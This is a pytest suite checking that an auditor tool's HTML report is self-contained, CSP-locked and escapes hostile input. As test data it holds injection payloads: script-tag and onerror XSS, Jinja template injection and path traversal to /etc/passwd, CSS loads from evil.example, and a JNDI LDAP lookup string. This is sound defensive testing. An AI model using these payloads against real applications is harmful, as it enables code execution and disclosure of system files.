"""The page: complete without a script, loads nothing, and keeps every value a value."""

from __future__ import annotations

import base64
import hashlib
import re
from collections import Counter
from pathlib import Path

import pytest

from auditor.errors import ArtifactError, RenderError
from auditor.report.render import render
from tests.unit.finished_run import Outline, page_of

GOLDEN = Path(__file__).parents[2] / "golden" / "report" / "outline.txt"

HOSTILE = {
    "smiling": "<script>alert(1)</script>",
    "lipstick": "{{ 7*7 }}{% include '/etc/passwd' %}",
    "glasses": '"><img src="file:///etc/passwd" onerror="alert(1)">',
    "hat": "url(http://evil.example/x.png)",
    "beard": "</style><style>@import 'http://evil.example/x.css'",
    "mustache": "${jndi:ldap://evil.example}\x00\x1b",
}


@pytest.fixture(scope="module")
def page(run) -> str:
    return page_of(run)


def test_the_page_is_ordered_as_agreed(make_run):
    few = {name: name for name in ("smiling", "lipstick", "glasses", "necktie", "hat", "badge")}
    assert Outline(page_of(make_run(titles=few))).text() == GOLDEN.read_text()


def test_the_same_run_gives_the_same_bytes(run, page):
    assert page_of(run) == page


def test_nothing_is_loaded_from_anywhere(page):
    outline = Outline(page)
    for tag, attributes in outline.tags:
        assert tag not in {"link", "iframe", "object", "embed", "base", "form"}
        source = attributes.get("href" if tag == "use" else "src") or "data:"
        assert source.startswith(("data:", "#")), tag
    style = re.search(r"<style>(.*?)</style>", page, re.S)[1]
    assert "@import" not in style
    assert all(url.startswith('"data:') for url in re.findall(r"url\(([^)]*)", style))


def test_the_policy_allows_this_script_and_this_style_alone(page):
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1]
    assert "default-src &#39;none&#39;" in policy
    assert "unsafe" not in policy
    for element in ("style", "script"):
        (content,) = re.findall(rf"<{element}>(.*?)</{element}>", page, re.S)
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        assert f"{element}-src &#39;sha256-{digest}&#39;" in policy
    assert not [tag for tag, attributes in Outline(page).tags if "style" in attributes]
    assert not [a for _, attributes in Outline(page).tags for a in attributes if a[:2] == "on"]


def test_links_lead_somewhere_and_ids_are_unique(page):
    tags = Outline(page).tags
    ids = Counter(a["id"] for _, a in tags if a.get("id"))
    assert max(ids.values()) == 1
    for tag, attributes in tags:
        if tag == "a":
            assert attributes["href"][1:] in ids


def test_every_picture_and_figure_says_what_it_shows(page):
    assert all(a.get("alt") for tag, a in Outline(page).tags if tag == "img")
    assert len(re.findall(r"<svg[^>]*>\s*<title>[^<]+", page)) == len(re.findall("<svg", page))


def test_hostile_names_are_shown_and_do_nothing(make_run):
    clean, hostile = make_run(titles=dict.fromkeys(HOSTILE, "x")), make_run(titles=HOSTILE)
    before, after = Outline(page_of(clean)), Outline(page_of(hostile))
    count = [Counter(tag for tag, _ in outline.tags) for outline in (before, after)]
    for tag in ("script", "style", "img", "link", "iframe"):
        assert count[0][tag] == count[1][tag]
    page = page_of(hostile)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "{{ 7*7 }}" in page
    assert "root:x:0" not in page


def test_figures_lie_in_the_run_directory(run, page):
    figures = run.paths.audit("relationships").figures
    assert {path.name for path in figures.iterdir()} >= {"graph.svg", "strip.svg"}


def test_findings_beyond_the_limit_are_named_and_stay_in_the_table(make_run):
    page = page_of(make_run(max_findings=3))
    assert page.count('<article class="case"') == 3
    assert "7\u00a0more broken rules are listed in the table of everything tested." in page
    assert page.count(">broken<") == 10


def test_a_template_of_the_users_replaces_one_of_the_packages(run, tmp_path):
    (tmp_path / "parts").mkdir()
    (tmp_path / "parts" / "cover.html.jinja").write_text("<h1>{{ page.title }}, as we show it</h1>")
    assert "release 3, as we show it" in page_of(run, template_dir=tmp_path)


@pytest.mark.parametrize(
    "template",
    [
        "{{ page.no_such_thing }}",
        "{% if %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ page.sections.append(1) }}",
        "{% include '../../../../etc/passwd' %}",
    ],
)
def test_a_template_that_is_broken_or_reaches_too_far_is_refused(run, tmp_path, template):
    (tmp_path / "parts").mkdir()
    (tmp_path / "parts" / "cover.html.jinja").write_text(template)
    with pytest.raises(RenderError, match="template"):
        page_of(run, template_dir=tmp_path)


def test_a_missing_template_folder_is_named(run, tmp_path):
    with pytest.raises(RenderError, match="nowhere"):
        page_of(run, template_dir=tmp_path / "nowhere")


def test_an_unknown_format_is_a_mistake_of_the_caller(run):
    with pytest.raises(ValueError, match="docx"):
        render(run, formats=("docx",))


def test_pictures_are_withheld_where_the_call_or_the_spec_says_so(run, make_run):
    assert "<img" in page_of(run)
    for page in (page_of(run, images="withheld"), page_of(make_run(images="withheld"))):
        assert "<img" not in page
        assert "withheld (digest " in page


def test_a_run_without_examples_has_a_report(make_run):
    page = page_of(make_run(num_examples=0))
    assert page.count('<article class="case"') == 10
    assert "<img" not in page


def test_heat_maps_that_do_not_fit_their_images_are_named(make_run):
    run = make_run()
    run.paths.audit("relationships").image("0000.jpg").unlink()
    with pytest.raises(ArtifactError, match="heat maps"):
        render(run, formats=("html",))
